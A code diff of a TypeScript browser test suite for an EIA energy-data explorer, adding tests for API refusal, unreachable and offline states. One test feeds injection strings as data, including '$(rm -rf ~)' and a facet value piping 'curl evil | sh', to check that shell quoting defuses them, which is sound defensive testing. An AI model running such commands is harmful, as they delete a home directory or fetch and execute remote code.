@@ -2,20 +2,16 @@ import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from '
 import { mkdtemp, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import type { Page } from 'playwright-core'
+import type { Page, Route } from 'playwright-core'
 import type { FeedConfig } from '../../src/agent/feeds/feedConfig.ts'
 import { feedMetadata, recipeOf } from '../../src/agent/feeds/feedConfig.ts'
 import { loadFeeds } from '../../src/agent/feeds/loadFeeds.ts'
 import { datasets, findDataset } from '../../src/catalog/datasets.ts'
 import builtIn from '../../src/catalog/feeds.json' with { type: 'json' }
 import { frequencies } from '../../src/eia/period.ts'
+import { shellQuoted } from '../../src/explorer/format/shell.ts'
 import { choiceOf } from '../../src/explorer/pages/datasets/choice.ts'
-import {
-  facetsCommand,
-  previewCommand,
-  shellQuote,
-  stepsOf,
-} from '../../src/explorer/pages/datasets/commands.ts'
+import { facetsCommand, previewCommand, stepsOf } from '../../src/explorer/pages/datasets/commands.ts'
 import { costOf } from '../../src/explorer/pages/datasets/cost.ts'
 import { openFacets, searchDatasets, treeOf } from '../../src/explorer/pages/datasets/dataset.ts'
 import {
@@ -178,7 +174,7 @@ describe('the entry', () => {
 
 describe('commands', () => {
   test('behavior: a link’s facets run nothing', () => {
-    expect(shellQuote("$(rm -rf ~)'`x`")).toBe("'$(rm -rf ~)'\\''`x`'")
+    expect(shellQuoted("$(rm -rf ~)'`x`")).toBe("'$(rm -rf ~)'\\''`x`'")
     const dataset = datasetAt('petroleum/pri/spt')
     const choice = choiceOf(dataset, new URLSearchParams({ 'facet.series': "a'; curl evil | sh #" }))
     expect(previewCommand(dataset, choice)).toContain("--facet 'series=a'\\''; curl evil | sh #' --dry-run")
@@ -328,6 +324,10 @@ describe.skipIf(!hasBrowser)('datasets in Chromium', () => {
     const [feed] = await loadAsAgent([(await entry.textContent()) ?? ''])
     expect(feed).toMatchObject({ facets: { series: 'RWTC' }, unit: '$/bbl', upstream_unit: '$/BBL' })
     expect(feed?.unverified).toBeUndefined()
+    const points = page.locator('.checked')
+    await points.getByText('EIA’s newest 4 rows are one series, in $/BBL, up to 2026-11-20').waitFor()
+    await points.getByText('feeds register --dry-run').waitFor()
+    expect([await points.locator('.is-good').count(), await points.locator('li').count()]).toEqual([3, 6])
     expect(await opened.violations()).toEqual([])
     expect(eia.every((url) => url.searchParams.get('api_key') === KEY)).toBe(true)
     const kept = await page.evaluate(async () => {
@@ -346,15 +346,53 @@ describe.skipIf(!hasBrowser)('datasets in Chromium', () => {
     expect(opened.faults).toEqual([])
   })
 
-  test('error: where EIA refuses pages of other origins, the command is there', async () => {
-    await using opened = await open(`${SPOT}&facet.series=RWTC`)
+  /** Opens a series with the reader's key. */
+  async function openWithKey(answer: (route: Route) => Promise<void>) {
+    const opened = await open(`${SPOT}&facet.series=RWTC`)
+    await opened.page.route('https://api.eia.gov/**', answer)
+    await opened.page.getByLabel('Your EIA key').fill(KEY)
+    await opened.page.keyboard.press('Enter')
+    return opened
+  }
+
+  test('error: where EIA lets no page of another site read it, that is said, with the command; the entry goes on', async () => {
+    const asked: string[] = []
+    // Stands in for EIA's API as it would be without CORS for this page.
+    await using opened = await openWithKey((route) => {
+      asked.push(route.request().url())
+      const headers = { 'access-control-allow-origin': 'https://www.eia.gov' }
+      return route.fulfill({ json: { response: { total: '0', data: [] } }, headers })
+    })
     const { page } = opened
-    await page.route('https://api.eia.gov/**', (route) => route.abort())
-    await page.getByLabel('Your EIA key').fill(KEY)
-    await page.keyboard.press('Enter')
-    await page.getByText('could not read EIA’s answer').waitFor()
+    await page.getByText('did not let this page read its answer').waitFor()
     await page.getByText('--facet series=RWTC --dry-run').waitFor()
     expect(await page.locator('main').textContent()).not.toContain(KEY)
+    // The question why is asked without the key.
+    expect(asked.at(-1)).toBe('https://api.eia.gov/v2/')
+    await page.getByLabel('Unit', { exact: true }).fill('$/bbl')
+    await page.locator('.checked').getByText('EIA was not asked').waitFor()
+    expect(await opened.violations()).toEqual([])
+    expect(opened.foreign.every((url) => new URL(url).origin === 'https://api.eia.gov')).toBe(true)
+  })
+
+  test('error: an EIA that cannot be reached is told from one that refuses; asked again, it answers', async () => {
+    await using opened = await openWithKey((route) => route.abort())
+    const { page } = opened
+    await page.getByText('cannot be reached from this browser').waitFor()
+    await page.unroute('https://api.eia.gov/**')
+    await standInForEia(page)
+    await page.getByRole('button', { name: 'Ask again' }).click()
+    await page.getByRole('cell', { name: '20.5' }).waitFor()
+  })
+
+  test('error: offline is said', async () => {
+    await using opened = await open(`${SPOT}&facet.series=RWTC`)
+    const { page } = opened
+    await page.getByLabel('Your EIA key').fill(KEY)
+    await page.context().setOffline(true)
+    await page.keyboard.press('Enter')
+    await page.getByText('This browser is offline.').waitFor()
+    await page.getByText('--facet series=RWTC --dry-run').waitFor()
   })
 
   test('behavior: an address that somebody made up runs nothing and breaks nothing', async () => {
